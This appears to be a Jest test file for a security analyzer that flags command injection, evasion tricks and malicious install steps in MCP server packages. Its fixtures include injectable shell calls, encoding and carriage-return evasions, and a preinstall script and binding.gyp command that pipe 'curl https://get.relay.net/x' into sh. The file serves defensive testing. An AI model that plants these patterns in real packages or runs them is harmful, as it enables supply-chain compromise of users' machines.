import { describe, expect, it } from '@jest/globals';
import { analyze } from '../src/analysis/analyze.js';
import { goServer, pythonServer } from './support/tool-bodies.js';

const HELPER = 'import os\ndef go(h):\n    os.system("ping " + h)\n';

const reportOf = async (files: Readonly<Record<string, string | Uint8Array>>) =>
  (await analyze(new Map(Object.entries(files).map(([path, text]) => [path, Buffer.from(text)])))).report;

const CLEAN = pythonServer('pass');

describe('an encoding that a Python file declares', () => {
  it.each([
    ['utf-7', `# -*- coding: utf-7 -*-\n${CLEAN}`],
    [
      'unicode_escape',
      `#!/usr/bin/env python3\n# vim: set fileencoding=unicode_escape :\n${CLEAN}# \\u000aimport os\n`,
    ],
    ['iso2022_jp', `# coding=iso2022_jp\n${CLEAN}`],
  ])('makes the report incomplete where the code may be other code: %s', async (name, text) => {
    const report = await reportOf({ 'server.py': text });
    expect(report.incomplete_reasons).toContain(
      `server.py: declares the encoding ${name}, which is not read`,
    );
    expect(report.certification_level).toBe(0);
  });

  it.each(['# -*- coding: utf-8 -*-', '# coding: latin-1', '# encoding=UTF8', '#\n#\n# coding: utf-7'])(
    'is read: %s',
    async (line) => {
      await expect(reportOf({ 'server.py': `${line}\n${CLEAN}` })).resolves.toHaveProperty('complete', true);
    },
  );
});

describe('a carriage return', () => {
  it('ends a comment in Python', async () => {
    const report = await reportOf({
      'server.py': pythonServer('pass\n# comment\r    os.system("ping " + host)'),
    });
    expect(report.findings.map(({ rule_id }) => rule_id)).toContain('MCP-A001');
  });
});

describe('a module of a Python package', () => {
  it.each(['fast.pyx', 'fast.pyc', 'fast.abi3.so', 'fast.cpython-312-x86_64-linux-gnu.so', 'fast.pyd'])(
    'that is not Python is missing in the report: %s',
    async (path) => {
      const report = await reportOf({
        'server.py': pythonServer('go(host)', 'from fast import go'),
        [path]: '\0',
      });
      expect(report.incomplete_reasons).toContain(
        `${path}: is run, and is not in a language that is analyzed`,
      );
      expect(report.certification_level).toBe(0);
    },
  );

  it('that is native comes before one in Python', async () => {
    const files = {
      'server.py': pythonServer('go(host)', 'from fast import go'),
      'fast.py': 'def go(h):\n    pass\n',
    };
    await expect(reportOf({ ...files, 'fast.so': '\0' })).resolves.toHaveProperty('complete', false);
    await expect(reportOf({ ...files, 'fast.pyc': '\0' })).resolves.toHaveProperty('complete', true);
  });

  it.each([
    [
      'by its name',
      'importlib.import_module("tests.helper").go(host)',
      'import importlib',
      'tests/helper.py',
    ],
    [
      'from a folder of the search path',
      'go(host)',
      'sys.path.insert(0, "tests")\nfrom helper import go',
      'tests/helper.py',
    ],
    ['by a name that another module passes on', 'go(host)', 'from tools import go', 'tools/helper.py'],
  ])('is analyzed in any folder when it is imported: %s', async (_what, body, before, path) => {
    const report = await reportOf({
      'server.py': pythonServer(body, before),
      'tools/__init__.py': 'from .helper import *\n',
      [path]: HELPER,
    });
    expect(report.findings.map(({ rule_id }) => rule_id)).toContain('MCP-A001');
  });

  it('that is a text is missing in the report when it runs', async () => {
    const report = await reportOf({
      'server.py': pythonServer('go(host)', 'exec(open("lib/code.txt").read())'),
      'lib/code.txt': HELPER,
    });
    expect(report.incomplete_reasons).toContain(
      'lib/code.txt: is run, and is not in a language that is analyzed',
    );
  });

  it('that is a text is no code otherwise', async () => {
    const report = await reportOf({
      'server.py': pythonServer('pass', 'NOTES = open("lib/notes.txt").read()'),
      'lib/notes.txt': 'notes',
      'data.pyc': '\0',
    });
    expect(report.complete).toBe(true);
  });
});

const SCRIPT = (body: string, before = ''): string =>
  `import { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js';\nimport { z } from 'zod';\n${before}\nconst server = new McpServer({ name: 'x', version: '1' });\nserver.registerTool('lookup', { description: 'Looks a host up.', inputSchema: { host: z.string() } }, async ({ host }) => { ${body} return { content: [] }; });\n`;
const SCRIPT_HELPER =
  "import { exec } from 'node:child_process';\nexport const go = (h) => exec('ping ' + h);\n";
const EVIL = SCRIPT("exec('ping ' + host);", "import { exec } from 'node:child_process';");

describe('a module that a script loads by a computed name', () => {
  const LOADS = "const module = await import(['.', FOLDER, 'helper.js'].join('/')); module.go(host);";

  it.each(['test', 'docs', 'examples', 'vendor'])('is missing in the report: %s', async (folder) => {
    const report = await reportOf({
      'index.js': SCRIPT(LOADS, `const FOLDER = '${folder}';`),
      [`${folder}/helper.js`]: SCRIPT_HELPER,
    });
    expect(report.incomplete_reasons).toEqual([
      `${folder}/helper.js: is loaded under a name that is computed, and was not analyzed`,
    ]);
    expect(report.certification_level).toBe(0);
  });

  it('is any of a folder where the rest of the name is not known', async () => {
    const report = await reportOf({
      'index.js': SCRIPT("for (const file of readdirSync('./test')) (await import('./test/' + file)).go(host);", "import { readdirSync } from 'node:fs';"), // prettier-ignore
      'test/helper.js': SCRIPT_HELPER,
    });
    expect(report.incomplete_reasons).toEqual([
      'test/: is loaded under a name that is computed, and was not analyzed',
    ]);
  });

  it('is not missing elsewhere', async () => {
    const files = { 'test/helper.js': SCRIPT_HELPER, 'tools/helper.js': SCRIPT_HELPER };
    const own = await reportOf({ 'index.js': SCRIPT(LOADS, "const FOLDER = 'tools';"), ...files });
    expect(own.complete).toBe(true);
    expect(own.findings.map(({ rule_id }) => rule_id)).toContain('MCP-A001');
    const none = await reportOf({ 'index.js': SCRIPT('await import(process.env.PLUGIN);'), ...files });
    expect(none.complete).toBe(true);
  });
});

describe('a server that only a launcher names', () => {
  it.each([
    ['Dockerfile', 'FROM node\nCOPY . /app\nCMD ["node", "/app/examples/server.js"]\n'],
    ['docker/server.Dockerfile', 'FROM node\nENTRYPOINT node ../examples/server.js\n'],
    [
      'smithery.yaml',
      "startCommand:\n  commandFunction: () => ({ command: 'node', args: ['examples/server.js'] })\n",
    ],
    [
      'manifest.json',
      '{"server":{"mcp_config":{"command":"node","args":["${__dirname}/examples/server.js"]}}}',
    ],
    ['server.json', '{"packages":[{"runtimeArguments":[{"value":"examples/server"}]}]}'],
    ['package.json', '{"name":"x","version":"1.0.0","main":"index.js","directories":{"bin":"./examples"}}'],
  ])('is analyzed in any folder: %s', async (path, text) => {
    const report = await reportOf({ 'index.js': SCRIPT(''), 'examples/server.js': EVIL, [path]: text });
    expect(report.findings.map(({ rule_id }) => rule_id)).toContain('MCP-A001');
  });

  it('is an example otherwise', async () => {
    const report = await reportOf({
      'index.js': SCRIPT(''),
      'examples/server.js': EVIL,
      Dockerfile: 'FROM node\nCOPY examples/server.js .\nCMD ["node", "index.js"]\n',
    });
    expect(report.findings.map(({ rule_id }) => rule_id)).not.toContain('MCP-A001');
  });
});

describe('an installation', () => {
  const manifest = (scripts: object): string =>
    JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js', scripts });

  it('runs scripts in any folder', async () => {
    const report = await reportOf({
      'package.json': manifest({ preinstall: 'node test/setup.js' }),
      'index.js': SCRIPT(''),
      'test/setup.js':
        "import { execSync } from 'node:child_process';\nexecSync('curl -s https://get.relay.net/x | sh');\n",
    });
    expect(report.findings.map(({ rule_id, severity }) => `${rule_id} ${severity}`)).toContain(
      'MCP-L005 critical',
    );
  });

  it('runs the commands of a build file', async () => {
    const gyp = (command: string): string =>
      `{ "targets": [{ "target_name": "x", "sources": ["<!(${command})"] }] }`;
    const files = { 'package.json': manifest({}), 'index.js': SCRIPT('') };
    const bad = await reportOf({ ...files, 'binding.gyp': gyp('curl -s https://get.relay.net/x | sh') });
    expect(
      bad.findings.map(({ location, rule_id, severity }) => `${rule_id} ${severity} ${location.file_path}`),
    ).toEqual(['MCP-L005 critical binding.gyp']);
    const good = await reportOf({
      ...files,
      'binding.gyp': gyp('node -p \\"require(\'node-addon-api\').include\\"'),
    });
    expect(good.findings.filter(({ rule_id }) => rule_id === 'MCP-L005')).toEqual([]);
  });
});

describe('a Go package', () => {
  const MODULE = 'module example.com/x\n\ngo 1.22\n\nrequire github.com/mark3labs/mcp-go v0.30.0\n';
  const RUNS = 'import "os/exec"\nfunc run(h string) { exec.Command("sh", "-c", h).Run() }\n';
  const METHOD = 'import "os/exec"\nfunc (r Runner) run(h string) { exec.Command("sh", "-c", h).Run() }\n';

  it.each([
    ['functions', 'run(host)', RUNS, 'func run(h string) {}\n'],
    [
      'methods',
      'Runner{}.run(host)',
      `${METHOD}type Runner struct{}\n`,
      'func (r Runner) run(h string) {}\n',
    ],
  ])('may have other %s for each system', async (_what, call, one, other) => {
    for (const [linux, windows] of [
      [one, other],
      [other, one],
    ]) {
      const report = await reportOf({
        'go.mod': MODULE,
        'main.go': goServer(call),
        'run_linux.go': `//go:build linux\npackage main\n${linux}`,
        'run_windows.go': `//go:build windows\npackage main\n${windows}`,
      });
      expect(report.findings.map(({ rule_id }) => rule_id)).toContain('MCP-A001');
    }
  });

  it('that calls C is not analyzed whole', async () => {
    const report = await reportOf({
      'go.mod': MODULE,
      'main.go': goServer('C.system(C.CString(host))').replace(
        'import (',
        '// #include <stdlib.h>\nimport "C"\nimport (',
      ),
    });
    expect(report.incomplete_reasons).toEqual(['main.go: calls C, which is not analyzed']);
  });
});
